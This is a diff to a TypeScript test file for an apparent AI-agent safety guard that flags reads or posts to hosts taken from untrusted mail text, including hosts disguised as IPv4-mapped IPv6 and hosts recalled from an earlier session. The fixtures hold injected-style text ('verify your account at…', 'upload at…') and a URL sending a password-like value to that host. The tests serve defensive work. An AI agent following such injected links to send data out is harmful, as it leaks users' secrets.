@@ -1,4 +1,5 @@
 import { describe, expect, it } from "vitest";
+import type { ProvenanceMemory } from "../../src/index.js";
 import { sameIpv4Hosts, urlHost } from "../../src/session/value-tokens.js";
 import { executingSession, expectAsked } from "./harness.js";
 
@@ -50,6 +51,30 @@ describe("an IPv6 host embedding an IPv4 address is that address", () => {
   it("asks on a read whose link the agent built on the text's IP host, written as IPv6", async () => {
     const session = await afterReading("verify your account at http://203.0.113.9/verify");
     expectAsked(session.evaluate(read("http://[::ffff:cb00:7109]/verify?p=hunter2")), "provenance_tainted");
+  });
+
+  it("recalls an earlier session's IPv4 host written today as IPv6, and the reverse", async () => {
+    for (const [yesterday, now] of [
+      ["http://203.0.113.9/in", "http://[::ffff:cb00:7109]/in"],
+      ["http://[::ffff:cb00:7109]/in", "http://203.0.113.9/in"],
+    ] as const) {
+      const kept = new Map<string, string>();
+      const memory: ProvenanceMemory = {
+        recall: (identity) => kept.get(identity),
+        remember(identities, source) {
+          for (const identity of identities) kept.set(identity, source);
+        },
+      };
+      const earlier = await executingSession({ intent: INTENT, settings: { require_plan: false }, extra: { memory } });
+      earlier.session.recordExecution({ server: "mail", tool: "read_inbox", arguments: {} }, `upload at ${yesterday}`);
+      const { session } = await executingSession({
+        intent: INTENT,
+        settings: { require_plan: false },
+        extra: { memory },
+      });
+      session.recordUserInput("finish what you started yesterday");
+      expectAsked(session.evaluate(post(now)), "provenance_tainted");
+    }
   });
 
   it("does not taint another address for the text naming one", async () => {
